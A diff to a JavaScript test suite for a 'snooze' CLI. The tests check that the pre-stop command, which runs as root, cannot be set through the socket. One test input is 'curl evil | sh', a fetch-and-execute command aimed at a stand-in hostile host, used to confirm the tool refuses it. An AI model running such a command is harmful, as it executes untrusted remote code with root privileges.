@@ -111,7 +111,7 @@ describe('pre-stop hook (local mode)', () => {
     const a = await agent({ naptime_minutes: 600, pre_stop_command: long });
     const r = await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_command', 'curl evil | sh']);
     expect(r.code).toBe(4);
-    expect(r.stderr).toMatch(/pre_stop_command can only be set in the config file .* a command it runs, as root\); nothing changed/);
+    expect(r.stderr).toBe(`snooze: Pre-stop command can only be set in the config file ${a.configPath}, as root; nothing changed\n`);
     const t = await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_timeout_seconds', '60']);
     expect(t).toMatchObject({ code: 0, stdout: 'pre_stop_timeout_seconds = 60\n' });
     expect((await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_on_failure', 'maybe'])).code).toBe(4);
